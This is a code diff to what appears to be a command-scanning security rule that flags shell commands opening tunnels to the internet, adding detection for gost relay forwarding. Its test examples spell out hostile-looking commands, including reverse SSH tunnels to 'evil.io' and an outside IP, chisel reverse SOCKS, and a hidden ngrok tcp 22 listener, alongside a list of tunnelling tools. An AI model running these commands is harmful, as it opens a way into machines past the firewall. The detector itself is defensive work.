@@ -248,6 +248,9 @@ function tunnelExposure(c: SimpleCommand): string | undefined {
   switch (c.name) {
     case 'chisel': case 'frpc': case 'frps': case 'gs-netcat': case 'rathole': case 'ligolo': case 'ligolo-ng': case 'revsocks': case 'iox':
       return c.argv.join(' ');
+    // gost forwarding (`-F`) through a relay: a local port chained to an outside proxy
+    case 'gost':
+      return c.argv.some((w) => w.startsWith('-F')) ? c.argv.join(' ') : undefined;
     case 'ngrok': {
       const proto = ops[0];
       if (proto === 'tcp' || proto === 'tls' || SENSITIVE_PORTS.has(portOf(ops[1]) ?? '')) return c.argv.join(' ');
@@ -412,7 +415,7 @@ export const RULES: readonly Rule[] = [
     message: 'Opens a tunnel that exposes this machine to the internet', why: 'chisel, frp, ngrok tcp, cloudflared ssh:// and `ssh -R` to an outside host give a remote party a way in past the firewall.',
     alternative: 'Use the team VPN or a bastion host.',
     test: (c) => tunnelExposure(c),
-    examples: { fire: ['ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &'], quiet: ['ngrok http 3000', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
+    examples: { fire: ['ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080'], quiet: ['ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
   },
   {
     id: 'PX-C2-010', name: 'opens-public-dev-tunnel', score: 50, tactic: 'command_and_control', technique: 'T1572',
